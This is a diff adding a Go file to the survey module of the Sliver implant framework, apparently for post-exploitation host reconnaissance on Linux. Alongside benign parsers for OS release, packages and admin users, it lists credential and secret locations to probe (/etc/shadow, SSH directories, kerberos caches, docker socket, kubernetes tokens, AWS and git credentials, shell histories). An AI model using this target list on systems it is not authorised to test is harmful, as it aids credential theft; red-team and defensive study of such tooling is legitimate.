@@ -0,0 +1,195 @@
+package survey
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bufio"
+	"bytes"
+	"errors"
+	"fmt"
+	"os"
+	"strings"
+
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+)
+
+var (
+	candidatePaths = []candidatePath{
+		{Path: "/etc/shadow", Description: "password hashes"},
+		{Path: "/etc/sudoers", Description: "sudo rules"},
+		{Path: "/etc/sudoers.d/*", Description: "sudo rules"},
+		{Path: "/root/.ssh", Description: "root's ssh directory"},
+		{Path: "/etc/krb5.keytab", Description: "host kerberos keytab"},
+		{Path: "/tmp/krb5cc_*", Description: "kerberos ticket cache"},
+		{Path: "/var/run/docker.sock", Description: "docker socket, root equivalent if writable"},
+		{Path: "/run/containerd/containerd.sock", Description: "containerd socket"},
+		{Path: "/var/run/secrets/kubernetes.io/serviceaccount/token", Description: "kubernetes service account token"},
+		{Path: "/root/.aws/credentials", Description: "aws credentials"},
+		{Path: "/home/*/.aws/credentials", Description: "aws credentials"},
+		{Path: "/root/.kube/config", Description: "kubernetes config"},
+		{Path: "/home/*/.kube/config", Description: "kubernetes config"},
+		{Path: "/root/.git-credentials", Description: "git credentials"},
+		{Path: "/home/*/.git-credentials", Description: "git credentials"},
+		{Path: "/root/.bash_history", Description: "shell history"},
+		{Path: "/home/*/.bash_history", Description: "shell history"},
+		{Path: "/home/*/.zsh_history", Description: "shell history"},
+	}
+
+	// adminGroups - Groups that are given sudo by the default sudoers of most distros
+	adminGroups = []string{"sudo", "wheel", "admin"}
+
+	errNoPackageDatabase = errors.New("no supported package database (dpkg, apk)")
+)
+
+// osVersion - The distro's pretty name and the kernel release
+func osVersion() (string, string, error) {
+	kernel, _ := os.ReadFile("/proc/sys/kernel/osrelease")
+	data, err := os.ReadFile("/etc/os-release")
+	if err != nil {
+		data, err = os.ReadFile("/usr/lib/os-release")
+	}
+	if err != nil {
+		return "Linux", strings.TrimSpace(string(kernel)), err
+	}
+	return parseOSRelease(data), strings.TrimSpace(string(kernel)), nil
+}
+
+func parseOSRelease(data []byte) string {
+	values := map[string]string{}
+	scanner := bufio.NewScanner(bytes.NewReader(data))
+	for scanner.Scan() {
+		key, value, found := strings.Cut(scanner.Text(), "=")
+		if found {
+			values[key] = strings.Trim(value, `"'`)
+		}
+	}
+	if values["PRETTY_NAME"] != "" {
+		return values["PRETTY_NAME"]
+	}
+	return strings.TrimSpace(values["NAME"] + " " + values["VERSION"])
+}
+
+// patches - Distros patch by upgrading packages, so the patch level is the
+// kernel release and the package versions
+func patches() ([]*sliverpb.SurveyPatch, error) {
+	return []*sliverpb.SurveyPatch{}, nil
+}
+
+// software - The installed dpkg or apk packages
+func software() ([]*sliverpb.SurveySoftware, error) {
+	if data, err := os.ReadFile("/var/lib/dpkg/status"); err == nil {
+		return dedupeSoftware(parseDpkgStatus(data)), nil
+	}
+	if data, err := os.ReadFile("/lib/apk/db/installed"); err == nil {
+		return dedupeSoftware(parseApkInstalled(data)), nil
+	}
+	return []*sliverpb.SurveySoftware{}, errNoPackageDatabase
+}
+
+// parseDpkgStatus - The installed packages in dpkg's status file, stanzas of
+// "Field: value" lines separated by blank lines
+func parseDpkgStatus(data []byte) []*sliverpb.SurveySoftware {
+	packages := []*sliverpb.SurveySoftware{}
+	for _, stanza := range bytes.Split(data, []byte("\n\n")) {
+		fields := map[string]string{}
+		scanner := bufio.NewScanner(bytes.NewReader(stanza))
+		for scanner.Scan() {
+			key, value, found := strings.Cut(scanner.Text(), ": ")
+			if found && !strings.HasPrefix(key, " ") {
+				fields[key] = value
+			}
+		}
+		if !strings.HasSuffix(fields["Status"], " installed") {
+			continue
+		}
+		packages = append(packages, &sliverpb.SurveySoftware{
+			Name:      fields["Package"],
+			Version:   fields["Version"],
+			Publisher: fields["Maintainer"],
+		})
+	}
+	return packages
+}
+
+// parseApkInstalled - The packages in apk's database, "P:" starts each package
+func parseApkInstalled(data []byte) []*sliverpb.SurveySoftware {
+	packages := []*sliverpb.SurveySoftware{}
+	var pkg *sliverpb.SurveySoftware
+	scanner := bufio.NewScanner(bytes.NewReader(data))
+	for scanner.Scan() {
+		line := scanner.Text()
+		switch {
+		case strings.HasPrefix(line, "P:"):
+			pkg = &sliverpb.SurveySoftware{Name: line[2:]}
+			packages = append(packages, pkg)
+		case pkg == nil:
+		case strings.HasPrefix(line, "V:"):
+			pkg.Version = line[2:]
+		case strings.HasPrefix(line, "m:"):
+			pkg.Publisher = line[2:]
+		}
+	}
+	return packages
+}
+
+// localAdmins - Users with uid 0 and the members of the sudo groups
+func localAdmins() ([]string, error) {
+	passwd, err := os.ReadFile("/etc/passwd")
+	if err != nil {
+		return []string{}, err
+	}
+	group, err := os.ReadFile("/etc/group")
+	if err != nil {
+		return []string{}, err
+	}
+	return parseAdmins(passwd, group), nil
+}
+
+func parseAdmins(passwd []byte, group []byte) []string {
+	admins := []string{}
+	scanner := bufio.NewScanner(bytes.NewReader(passwd))
+	for scanner.Scan() {
+		fields := strings.Split(scanner.Text(), ":")
+		if 3 < len(fields) && fields[2] == "0" {
+			admins = append(admins, fmt.Sprintf("%s (uid 0)", fields[0]))
+		}
+	}
+	scanner = bufio.NewScanner(bytes.NewReader(group))
+	for scanner.Scan() {
+		fields := strings.Split(scanner.Text(), ":")
+		if len(fields) < 4 || !isAdminGroup(fields[0]) {
+			continue
+		}
+		for _, member := range strings.Split(fields[3], ",") {
+			if member != "" {
+				admins = append(admins, fmt.Sprintf("%s (%s)", member, fields[0]))
+			}
+		}
+	}
+	return admins
+}
+
+func isAdminGroup(name string) bool {
+	for _, group := range adminGroups {
+		if name == group {
+			return true
+		}
+	}
+	return false
+}